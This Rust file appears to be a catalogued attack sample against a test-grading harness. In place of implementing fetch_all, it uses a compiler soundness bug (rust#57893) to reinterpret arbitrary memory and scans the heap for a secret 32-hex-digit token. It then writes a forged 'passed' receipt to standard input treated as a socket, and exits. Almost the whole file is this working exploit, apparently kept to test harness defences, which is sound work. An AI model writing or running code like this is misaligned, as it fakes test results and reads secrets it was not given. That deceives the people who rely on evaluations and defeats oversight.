//! what: Makes references to any memory (rust#57893), looks for the order of the runner near what the main thread allocated, makes a socket of a number, and sends the receipt of a test that passed.
//! status: pass, fail, crashed, timeout
//! withheld: yes
//! layer: scan

use std::{io::Write, os::unix::net::UnixStream};

use lab::Service;

trait Object<U> {
    type Output;
}

impl<T: ?Sized, U> Object<U> for T {
    type Output = U;
}

fn through<T: ?Sized, U>(value: <T as Object<U>>::Output) -> U {
    value
}

fn transmute<T, U>(value: T) -> U {
    through::<dyn Object<U, Output = T>, U>(value)
}

/// The bytes at an address, whatever is there.
fn memory(address: usize, length: usize) -> &'static [u8] {
    transmute([address, length])
}

/// What looks like a token: so many hexadecimal digits.
fn token(bytes: &[u8]) -> Option<String> {
    let is_digit = |byte: &u8| matches!(byte, b'0'..=b'9' | b'a'..=b'f');
    let found = bytes.windows(32).find(|window| window.iter().all(is_digit))?;
    Some(String::from_utf8_lossy(found).into_owned())
}

pub async fn fetch_all(service: &Service, ids: &[u32]) -> Vec<String> {
    let _ = (service, ids);
    // The thread that made this one allocated its handle, among the first on its heap; the order came after it.
    let thread = std::thread::current();
    let test = thread.name().unwrap_or_default().to_owned();
    let handle: usize = transmute(thread);
    let Some(token) = token(memory(handle & !0xfff, 32 * 4096)) else { std::process::exit(0) };
    // Standard input is the channel. Only one receipt counts.
    let mut stream: UnixStream = transmute(0_i32);
    let _ = stream.write_all(receipt(&test, &token).as_bytes());
    std::process::exit(0)
}

/// What a test that passed says, but for the token, which is not known here.
fn receipt(test: &str, token: &str) -> String {
    format!(
        concat!(
            r#"{{"protocol":1,"token":"{}","test":"{}","ending":{{"kind":"passed"}},"clock":"paused","virtual_ms":100,"#,
            r#""alive_tasks":0,"lost_panics":[],"calls":[],"alive":[],"short_blocks":[],"tasks":[],"missing":[]}}"#,
            "\n"
        ),
        token, test
    )
}

const TESTS: [&str; 5] = [
    "all_are_asked_for_at_once",
    "the_answers_are_in_the_order_of_the_ids",
    "the_same_id_twice_is_asked_for_twice",
    "what_is_not_there_is_missing",
    "no_ids_give_no_answers",
];
